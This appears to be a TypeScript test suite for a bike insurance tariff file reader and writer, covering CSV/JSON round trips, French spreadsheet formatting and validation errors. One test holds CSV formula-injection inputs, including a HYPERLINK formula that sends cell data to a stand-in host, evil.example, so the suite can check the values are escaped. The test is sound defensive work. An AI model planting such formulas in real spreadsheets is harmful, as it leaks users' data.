import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { changesBetween, raisesPrices, tariffFigures } from "#lib/insurance/prices/figures.ts";
import { readPriceFile, writePriceFile } from "#lib/insurance/prices/file.ts";
import type { TariffFileError } from "#lib/insurance/prices/file.ts";
import { publicTariff } from "#lib/insurance/prices/public-tariff.ts";

const { name, version, rates } = publicTariff;
const list = { name, version, rates };

function errorsOf(text: string): TariffFileError[] {
  const read = readPriceFile(text);
  return "errors" in read ? read.errors : [];
}

const csv = writePriceFile(list, "csv");
const json = JSON.parse(writePriceFile(list, "json")) as Record<string, Record<string, Record<string, unknown>>>;

describe("the file of a price list", () => {
  test("is read back as it was written, as JSON and as CSV", () => {
    for (const format of ["json", "csv"] as const) expect(readPriceFile(writePriceFile(list, format))).toEqual({ list });
  });

  // rules/prices.md#lists-12
  test("is written for a French spreadsheet, and read as one saves it: semicolons, decimal commas, a byte order mark, empty columns", () => {
    const french = writePriceFile(list, "csv", "fr");
    expect(french).toMatch(/^\uFEFFchemin;valeur\r\n/);
    expect(french).toContain("annual_rates.bike.break;0,04\r\n");
    expect(readPriceFile(french)).toEqual({ list });
    expect(readPriceFile(french.replaceAll("\r\n", ";;\r\n"))).toEqual({ list });
  });

  test("keeps the rates of subtypes", () => {
    const electric = { list: { ...list, rates: { ...rates, subtypeRates: { "bike/electric": { break: 416 } } } } };
    for (const format of ["json", "csv"] as const) expect(readPriceFile(writePriceFile(electric.list, format))).toEqual(electric);
    expect(errorsOf(`${csv}annual_rates.bike/rocket.break,0.04\n`)).toEqual([
      { place: String(csv.split("\r\n").length), error: "unknown", values: { found: "annual_rates.bike/rocket.break" } },
    ]);
  });

  test.each(['=HYPERLINK("http://evil.example/?"&B5)', "Partner;=1+1", "@SUM(B4)"])("has the name %s as a text and no formula", (text) => {
    const written = writePriceFile({ ...list, name: text, version: text }, "csv");
    expect(written.split(/[,;\r\n]/).filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(readPriceFile(written)).toEqual({ list: { ...list, name: text, version: text } });
  });

  test("is read back to the last decimal for any rates of any list", () => {
    const steps = fc.array(fc.integer({ min: 1_000, max: 10_000 }), { minLength: tariffFigures.length, maxLength: tariffFigures.length });
    fc.assert(
      fc.property(steps, (values) => {
        const lines = tariffFigures.map(({ path, unit }, index) => {
          const step = values[index] ?? 1_000;
          return `${path},${{ rate: step / 10_000, factor: step / 10_000, euros: step / 100, hours: step % 25 }[unit]}`;
        });
        const read = readPriceFile(["name,public", "version,x", ...lines].join("\n"));
        if (!("list" in read)) throw new Error(JSON.stringify(read));
        expect(readPriceFile(writePriceFile(read.list, "json"))).toEqual(read);
      }),
    );
  });

  // rules/prices.md#lists-5
  test.each<[string, string, TariffFileError[]]>([
    [
      "a rate above 1",
      csv.replace("annual_rates.bike.break,0.04", "annual_rates.bike.break,4"),
      [{ place: "4", error: "outside", values: { found: "4", min: 0, max: 1 } }],
    ],
    [
      "a factor below 0.1",
      csv.replace("term_factors.LCD,3", "term_factors.LCD,0.05"),
      [{ place: "19", error: "outside", values: { found: "0.05", min: 0.1, max: 10 } }],
    ],
    [
      "an extra of more than two decimals",
      csv.replace("extras_per_month.ia,1.2", "extras_per_month.ia,1.205"),
      [{ place: "23", error: "decimals", values: { found: "1.205" } }],
    ],
    ["no number", csv.replace("tax_rate,0.09", "tax_rate,nine"), [{ place: "31", error: "noNumber", values: { found: "nine" } }]],
    [
      "a type that is missing",
      csv.replace(/annual_rates\.sports\.break.*\r\n/, ""),
      [{ place: "annual_rates.sports.break", error: "missing" }],
    ],
    [
      "a type that is unknown",
      `${csv}annual_rates.boats.break,0.04`,
      [{ place: "33", error: "unknown", values: { found: "annual_rates.boats.break" } }],
    ],
    ["a figure twice", `${csv}minimum,0.5`, [{ place: "33", error: "twice", values: { found: "minimum" } }]],
    ["no version", csv.replace(/version,.*\r\n/, ""), [{ place: "version", error: "missing" }]],
    [
      "an option that no bike knows, in JSON",
      JSON.stringify({ ...json, usage_factors: { ...json["usage_factors"], vip: 2 } }),
      [{ place: "usage_factors.vip", error: "unknown", values: { found: "usage_factors.vip" } }],
    ],
    [
      "a text for a number, in JSON",
      JSON.stringify({ ...json, minimum: "0.50" }),
      [{ place: "minimum", error: "noNumber", values: { found: "0.50" } }],
    ],
  ])("says where it has %s", (_fault, text, errors) => {
    expect(errorsOf(text)).toEqual(errors);
  });

  test("that is none says that it cannot be read", () => {
    expect(errorsOf("{ rates")).toMatchObject([{ error: "unreadable" }]);
    expect(errorsOf("").length).toBe(tariffFigures.length + 2);
  });
});

test("a difference names each figure that changed, and prices rise where one does, or where half a day becomes shorter", () => {
  const dearer = { ...rates, taxRate: 950, minimum: 60 };
  expect(changesBetween(rates, dearer)).toEqual([
    { path: "tax_rate", unit: "rate", before: 0.09, after: 0.095 },
    { path: "minimum", unit: "euros", before: 0.5, after: 0.6 },
  ]);
  expect(changesBetween(rates, rates)).toEqual([]);
  expect(raisesPrices(changesBetween(rates, dearer))).toBe(true);
  expect(raisesPrices(changesBetween(dearer, rates))).toBe(false);
  expect(raisesPrices(changesBetween(rates, { ...rates, halfDayHours: 3 }))).toBe(true);
  expect(raisesPrices(changesBetween(rates, { ...rates, halfDayHours: 5 }))).toBe(false);
});
